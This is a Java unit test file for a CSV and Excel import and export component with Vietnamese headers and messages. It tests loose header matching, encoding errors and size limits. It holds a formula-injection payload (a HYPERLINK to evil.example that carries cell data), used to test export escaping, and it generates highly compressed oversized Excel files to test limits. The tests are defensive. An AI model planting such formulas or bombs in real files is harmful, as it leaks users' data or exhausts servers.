package vn.tramso.base.table;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;

/** Import files as people make them: Excel, CSV with commas or semicolons, headers typed loosely. */
class TableReaderTest {

    static final Column NAME = Column.required("Họ và tên");
    static final Column YEAR = Column.required("Năm sinh");
    static final Column PHONE = Column.optional("Điện thoại");
    static final List<Column> COLUMNS = List.of(NAME, YEAR, PHONE);

    @Test
    void a_csv_with_a_byte_order_mark_semicolons_and_loose_headers_is_read_by_column() throws Exception {
        String csv = "\uFEFFho va ten;NĂM SINH;Ghi chú\r\n\"Nguyễn Văn An\";1956;x\r\n;;\r\nLê Thị Hoa;1960;\r\n";

        Table table = TableReader.read("ho.csv", csv.getBytes(StandardCharsets.UTF_8), COLUMNS);

        assertThat(table.rows()).hasSize(2);
        assertThat(table.rows().get(0).number()).isEqualTo(2);
        assertThat(table.rows().get(0).get(NAME)).isEqualTo("Nguyễn Văn An");
        assertThat(table.rows().get(1).number()).as("the blank row 3 is skipped, numbers stay as the file's").isEqualTo(4);
        assertThat(table.rows().get(1).get(PHONE)).as("a missing optional column reads empty").isEmpty();
    }

    @Test
    void an_excel_file_written_by_the_export_reads_back_the_same_with_leading_zeros_kept() throws Exception {
        byte[] xlsx = TableWriter.xlsx("ho", COLUMNS, List.of(List.of("Nguyễn Văn An", "1956", "0912345678")));

        Table table = TableReader.read("Ho.XLSX", xlsx, COLUMNS);

        assertThat(table.rows()).singleElement().satisfies(row -> {
            assertThat(row.get(NAME)).isEqualTo("Nguyễn Văn An");
            assertThat(row.get(YEAR)).isEqualTo("1956");
            assertThat(row.get(PHONE)).isEqualTo("0912345678");
        });
    }

    @Test
    void the_csv_export_reads_back_too() throws Exception {
        byte[] csv = TableWriter.csv(COLUMNS, List.of(List.of("Trần, Văn \"Ba\"", "1950", "")));

        assertThat(TableReader.read("x.csv", csv, COLUMNS).rows().getFirst().get(NAME)).isEqualTo("Trần, Văn \"Ba\"");
    }

    @Test
    void files_that_cannot_be_read_are_refused_with_a_plain_reason() {
        assertThat(refusal("ho.pdf", "x".getBytes())).contains(".xlsx", ".csv");
        assertThat(refusal("ho.csv", "Họ và tên,Năm sinh\nAn,1956".getBytes(Charset.forName("windows-1258"))))
                .contains("UTF-8");
        assertThat(refusal("ho.csv", "Họ và tên,Điện thoại\nAn,0912".getBytes(StandardCharsets.UTF_8)))
                .contains("Thiếu cột: Năm sinh");
        assertThat(refusal("ho.xlsx", "not a zip".getBytes())).contains("Excel");
        assertThat(refusal("ho.csv", new byte[0])).contains("không có dữ liệu");
        assertThat(refusal("ho.csv", new byte[TableReader.MAX_BYTES + 1])).contains("quá lớn");
    }

    @Test
    void a_problem_reads_as_the_row_and_column_to_fix() {
        assertThat(new ImportProblem(12, "Năm sinh", "phải là năm từ 1900 đến nay"))
                .hasToString("Dòng 12, cột 'Năm sinh': phải là năm từ 1900 đến nay");
        assertThat(new ImportProblem(5, "", "trùng dòng 3")).hasToString("Dòng 5: trùng dòng 3");
    }

    static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?\"&A2,\"Thôn Trà Phương\")";

    @Test
    void a_csv_export_turns_a_formula_into_text_with_a_leading_apostrophe_and_keeps_negative_numbers() throws Exception {
        byte[] csv = TableWriter.csv(COLUMNS, List.of(List.of(HYPERLINK, "-3", "+84912345678"), List.of("@SUM(A1)", "\tx", "-1+2")));
        List<String> lines = new String(csv, StandardCharsets.UTF_8).lines().toList();

        assertThat(lines.get(1)).startsWith("\"'=HYPERLINK(").contains(",-3,'+84912345678");
        assertThat(lines.get(2)).startsWith("'@SUM(A1),").endsWith(",'-1+2");
        assertThat(TableReader.read("x.csv", csv, COLUMNS).rows().getFirst().get(NAME))
                .as("read back as it was, for the import's checks to refuse").isEqualTo(HYPERLINK);
    }

    @Test
    void an_excel_export_keeps_a_formula_like_name_as_a_string_cell() throws Exception {
        byte[] xlsx = TableWriter.xlsx("ho", COLUMNS, List.of(List.of(HYPERLINK, "1956", "")));

        try (var book = new org.apache.poi.xssf.usermodel.XSSFWorkbook(new java.io.ByteArrayInputStream(xlsx))) {
            var cell = book.getSheetAt(0).getRow(1).getCell(0);
            assertThat(cell.getCellType()).isEqualTo(org.apache.poi.ss.usermodel.CellType.STRING);
            assertThat(cell.getStringCellValue()).isEqualTo(HYPERLINK);
        }
    }

    @Test
    void an_excel_file_with_a_cell_in_column_xfd_on_every_row_is_refused_as_it_is_read() throws Exception {
        byte[] xlsx = sheet(TableReader.MAX_ROWS, 16_383);
        assertThat(xlsx.length).as("a small file").isLessThan(TableReader.MAX_BYTES);

        assertThat(refusal("ho.xlsx", xlsx)).isEqualTo("Dòng 2, cột 'XFD': tệp chỉ được có tối đa 50 cột (đến cột AX). Hãy xoá các cột thừa.");
    }

    @Test
    void an_excel_file_of_long_cells_within_fifty_columns_is_refused_before_its_text_fills_memory() throws Exception {
        assertThat(refusal("ho.xlsx", named(2, () -> "A".repeat(ExcelRows.MAX_CELL_CHARS + 1))))
                .isEqualTo("Dòng 2, cột 'A': ô dài quá 1000 ký tự. Hãy kiểm tra lại ô này.");

        int rows = (int) (ExcelRows.MAX_TEXT_CHARS / ExcelRows.MAX_CELL_CHARS) + 10;
        byte[] bomb = named(rows, () -> "B".repeat(ExcelRows.MAX_CELL_CHARS));
        assertThat(bomb.length).as("a file of a few hundred kilobytes").isLessThan(1024 * 1024);
        assertThat(refusal("ho.xlsx", bomb)).as("packed over 100 times: POI's guard").isEqualTo(ExcelRows.TOO_LARGE);

        java.util.Random random = new java.util.Random(18);
        byte[] text = named(rows, () -> random.ints(ExcelRows.MAX_CELL_CHARS, 'a', 'z' + 1)
                .collect(StringBuilder::new, StringBuilder::appendCodePoint, StringBuilder::append).toString());
        assertThat(text.length).as("within the upload limit").isLessThan(TableReader.MAX_BYTES);
        assertThat(refusal("ho.xlsx", text)).as("20 million characters of text")
                .isEqualTo("Tệp có quá nhiều chữ: tối đa 20 triệu ký tự. Hãy chia tệp thành nhiều tệp nhỏ hơn.");
    }

    /** A header row, then {@code rows} rows each named by {@code name}. */
    private static byte[] named(int rows, java.util.function.Supplier<String> name) throws Exception {
        try (var book = new org.apache.poi.xssf.streaming.SXSSFWorkbook(100); var out = new java.io.ByteArrayOutputStream()) {
            var sheet = book.createSheet("ho");
            sheet.createRow(0).createCell(0).setCellValue("Họ và tên");
            for (int r = 1; r <= rows; r++) {
                sheet.createRow(r).createCell(0).setCellValue(name.get());
            }
            book.write(out);
            return out.toByteArray();
        }
    }

    @Test
    void an_excel_file_with_more_rows_than_the_limit_is_refused_and_one_at_the_limit_is_read() throws Exception {
        assertThat(refusal("ho.xlsx", sheet(TableReader.MAX_ROWS + 1, 1))).contains("quá nhiều dòng", "100000");
        assertThat(TableReader.read("ho.xlsx", sheet(TableReader.MAX_ROWS, 1), COLUMNS).rows()).hasSize(TableReader.MAX_ROWS);
    }

    @Test
    void a_csv_with_a_cell_beyond_column_fifty_is_refused_naming_the_row_and_column() {
        String far = ",".repeat(60) + "x";

        assertThat(refusal("ho.csv", ("Họ và tên,Năm sinh\nAn,1956\nBa,1957" + far + "\n").getBytes(StandardCharsets.UTF_8)))
                .isEqualTo("Dòng 3, cột 'BJ': tệp chỉ được có tối đa 50 cột (đến cột AX). Hãy xoá các cột thừa.");
    }

    /** A header row, then {@code rows} rows each with a name and a year and a cell "x" in the given column. */
    private static byte[] sheet(int rows, int column) {
        return TestXlsx.sheet(List.of("Họ và tên", "Năm sinh"), rows, List.of("An", "1956"), column > 1 ? column : -1);
    }

    private static String refusal(String name, byte[] bytes) {
        TableException e = catchThrowableOfType(TableException.class, () -> TableReader.read(name, bytes, COLUMNS));
        assertThat(e).as("refused").isNotNull();
        return e.getMessage();
    }
}
